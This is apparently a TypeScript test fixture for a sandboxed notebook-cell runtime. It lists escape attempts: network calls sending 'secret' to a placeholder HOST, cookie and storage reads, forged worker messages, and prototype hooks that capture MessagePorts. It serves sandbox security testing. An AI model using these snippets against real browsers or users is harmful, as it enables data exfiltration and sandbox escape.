/** What a cell might try. Each body of an async function throws, waits in vain, or returns what it gained. */
export interface Attack {
  name: string;
  body: string;
}

/** Ways out to a server that would take anything; `HOST` is its address and port. */
export const networkAttacks: Attack[] = [
  { name: "fetch", body: `return (await fetch("http://HOST/fetch")).status;` },
  {
    name: "fetch that asks for no answer",
    body: `return (await fetch("http://HOST/no-cors", { mode: "no-cors", method: "POST", body: "secret", keepalive: true })).type;`,
  },
  {
    name: "XMLHttpRequest",
    body: `const request = new XMLHttpRequest();
      request.open("GET", "http://HOST/xhr");
      return settle(request, "load");`,
  },
  {
    name: "a synchronous XMLHttpRequest",
    body: `const request = new XMLHttpRequest();
      request.open("GET", "http://HOST/xhr-sync", false);
      request.send();
      return request.status;`,
  },
  { name: "WebSocket", body: `return settle(new WebSocket("ws://HOST/socket"), "open");` },
  {
    name: "WebSocketStream",
    body: `await new WebSocketStream("ws://HOST/socket-stream").opened; return "open";`,
  },
  {
    name: "WebTransport",
    body: `await new WebTransport("https://HOST/transport").ready; return "ready";`,
  },
  { name: "EventSource", body: `return settle(new EventSource("http://HOST/events"), "open");` },
  {
    name: "FontFace",
    body: `return (await new FontFace("font", "url(http://HOST/font)").load()).status;`,
  },
  {
    name: "a font of the worker's own set",
    body: `self.fonts.add(new FontFace("font", "url(http://HOST/font-set)"));
      return (await self.fonts.load("12px font")).length;`,
  },
  { name: "import()", body: `return Object.keys(await import("http://HOST/module.js"));` },
  {
    name: "import() in code made at run time",
    body: `return Object.keys(await (0, eval)('import("http://HOST/eval.js")'));`,
  },
  { name: "importScripts", body: `importScripts("http://HOST/script.js"); return "loaded";` },
  {
    name: "a nested worker from the server",
    body: `return settle(new Worker("http://HOST/worker.js"), "message");`,
  },
  {
    name: "a nested worker from a data: URL",
    body: `return settle(new Worker("data:text/javascript,fetch('http://HOST/data-worker');postMessage(1)"), "message");`,
  },
  {
    name: "a nested worker from a blob: URL",
    body: `const source = new Blob(["fetch('http://HOST/blob-worker');postMessage(1)"]);
      return settle(new Worker(URL.createObjectURL(source)), "message");`,
  },
  { name: "SharedWorker", body: `return String(new SharedWorker("data:text/javascript,1").port);` },
  {
    name: "a service worker",
    body: `return (await navigator.serviceWorker.register("http://HOST/service-worker.js")).scope;`,
  },
  { name: "sendBeacon", body: `return navigator.sendBeacon("http://HOST/beacon", "secret");` },
  {
    name: "WebRTC",
    body: `const connection = new RTCPeerConnection({ iceServers: [{ urls: "stun:HOST" }] });
      connection.createDataChannel("secret");
      await connection.setLocalDescription(await connection.createOffer());
      return "offered";`,
  },
  {
    name: "WebAssembly from the network",
    body: `return String(await WebAssembly.compileStreaming(fetch("http://HOST/module.wasm")));`,
  },
  {
    name: "a picture within a picture",
    body: `const svg = '<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"><image href="http://HOST/image"/></svg>';
      return (await createImageBitmap(new Blob([svg], { type: "image/svg+xml" }))).width;`,
  },
];

/** What the reader keeps in this browser, and the page itself. */
export const originAttacks: Attack[] = [
  {
    name: "IndexedDB",
    body: `const request = indexedDB.open("descent");
      await settle(request, "success");
      return request.result.name;`,
  },
  { name: "the list of databases", body: `return (await indexedDB.databases()).length;` },
  { name: "cookies", body: `return document.cookie;` },
  { name: "the cookie store", body: `return (await cookieStore.getAll()).length;` },
  { name: "localStorage", body: `return localStorage.length;` },
  { name: "sessionStorage", body: `return sessionStorage.length;` },
  {
    name: "Cache Storage",
    body: `await (await caches.open("attack")).put("http://HOST/cached", new Response("kept"));
      return "kept";`,
  },
  { name: "OPFS", body: `return (await navigator.storage.getDirectory()).kind;` },
  {
    name: "the file system of Chromium",
    body: `return String(webkitRequestFileSystemSync(0, 1024).root);`,
  },
  {
    name: "Web Locks",
    body: `return await navigator.locks.request("attack", (lock) => lock.name);`,
  },
  {
    name: "BroadcastChannel",
    body: `new BroadcastChannel("attack").postMessage("from a cell"); return "posted";`,
  },
  { name: "the page's parent", body: `return String(parent.location);` },
  { name: "the top window", body: `return String(top.location);` },
  { name: "the window", body: `return String(window.location);` },
  { name: "the document", body: `return document.title;` },
  { name: "the opener", body: `return String(opener.location);` },
  { name: "other frames", body: `return frames.length;` },
  {
    name: "the page, by code made at run time",
    body: `return String(Function("return this.parent ?? this.window")().location);`,
  },
];

/** Messages past the runtime; the page's own listeners hear of those that get through. */
export const messageAttacks: Attack[] = [
  { name: "postMessage", body: `postMessage(forged); return "posted";` },
  {
    name: "postMessage of the prototype",
    body: `DedicatedWorkerGlobalScope.prototype.postMessage.call(self, forged); return "posted";`,
  },
  {
    name: "a second port for the boot script",
    body: `const { port1, port2 } = new MessageChannel();
      let isAnswered = false;
      port2.onmessage = () => { isAnswered = true; };
      self.dispatchEvent(new MessageEvent("message", { data: "(() => () => {})()", ports: [port1] }));
      port2.postMessage("() => {}");
      await new Promise((resolve) => setTimeout(resolve, 300));
      if (isAnswered) return "an answer";`,
  },
  { name: "the end of the worker", body: `close(); return "closed";` },
];

/** A cell that makes an attempt, and says how it went: `nothing`, `refused: …` or `gained …`. */
export function writeCell({ body }: Attack, host = ""): string {
  return `
const forged = [1, 2, 3, 4, 5].map((parentId) => ({ type: "stream", parentId, name: "stdout", text: "forged" }));
const settle = (target, name) => new Promise((resolve, reject) => {
  target.addEventListener(name, () => resolve(name));
  target.addEventListener("error", () => reject(new Error("an error event")));
  if (target instanceof XMLHttpRequest) target.send();
});
const attempt = async () => { ${body.replaceAll("HOST", host)} };
const limit = new Promise((resolve) => setTimeout(resolve, 1500));
try {
  const gain = await Promise.race([attempt(), limit]);
  console.log(gain === undefined ? "nothing" : "gained " + gain);
} catch (error) {
  console.log("refused: " + error);
}`;
}

/**
 * Sets traps on whatever the kernel might use to send or hear a message, each of which keeps the ports
 * that it gets to see in `stolen`.
 */
export const setTraps = `
globalThis.stolen = [];
const { apply, getOwnPropertyDescriptor, defineProperty } = Reflect;
const isPort = (value) => value instanceof MessagePort;
const getTarget = getOwnPropertyDescriptor(Event.prototype, "target").get;
const keep = (value) => {
  if (isPort(value)) stolen[stolen.length] = value;
  if (value instanceof Event) keep(apply(getTarget, value, []));
};
const trapCall = (holder, name) => {
  const original = holder[name];
  if (typeof original !== "function") return;
  defineProperty(holder, name, { configurable: true, writable: true, value: function (...values) {
    keep(this);
    for (let index = 0; index < values.length; index += 1) keep(values[index]);
    return apply(original, this, values);
  } });
};
const trapGetter = (holder, name) => {
  const original = getOwnPropertyDescriptor(holder, name)?.get;
  if (original) defineProperty(holder, name, { configurable: true, get() {
    keep(this);
    return apply(original, this, []);
  } });
};
const trapSetter = (holder, name) => {
  defineProperty(holder, name, { configurable: true, get: () => undefined, set(value) {
    keep(this);
    keep(value);
    defineProperty(this, name, { configurable: true, writable: true, enumerable: true, value });
  } });
};
trapCall(MessagePort.prototype, "postMessage");
trapCall(MessagePort.prototype, "start");
trapCall(EventTarget.prototype, "addEventListener");
trapCall(EventTarget.prototype, "dispatchEvent");
for (const name of ["data", "ports", "source", "origin"]) trapGetter(MessageEvent.prototype, name);
for (const name of ["target", "currentTarget", "srcElement", "type"]) trapGetter(Event.prototype, name);
for (const name of ["call", "apply", "bind"]) trapCall(Function.prototype, name);
for (const name of ["push", "shift", "concat", "forEach", "map"]) trapCall(Array.prototype, name);
for (const name of ["get", "set", "has", "delete"]) trapCall(Map.prototype, name);
trapCall(Array.prototype, Symbol.iterator);
trapCall(Promise.prototype, "then");
trapCall(JSON, "stringify");
trapCall(Performance.prototype, "now");
for (const name of ["setTimeout", "queueMicrotask", "structuredClone"]) trapCall(globalThis, name);
for (const name of ["port", "post", "send", "onmessage", "onRequest", "value"]) trapSetter(Object.prototype, name);
// V8 hands out the frames of a stack: functions, and what they are called on.
Error.prepareStackTrace = (error, frames) => {
  for (let index = 0; index < frames.length; index += 1) {
    keep(frames[index].getThis());
    try { for (const value of frames[index].getFunction().arguments) keep(value); } catch {}
  }
  return "stack";
};
console.log("traps are set");`;

/** Springs the traps on a port of the cell's own, so that a test can tell that they work. */
export const springTraps = `
const { port1, port2 } = new MessageChannel();
port1.postMessage("hello");
const heard = new Promise((resolve) => { port2.onmessage = (event) => resolve(event.data); });
await heard;
console.log({ toString() { return "stack: " + new Error("look").stack; } } + "");
const own = new Set([port1, port2]);
console.log("own " + stolen.filter((port) => own.has(port)).length + ", others " + stolen.filter((port) => !own.has(port)).length);`;
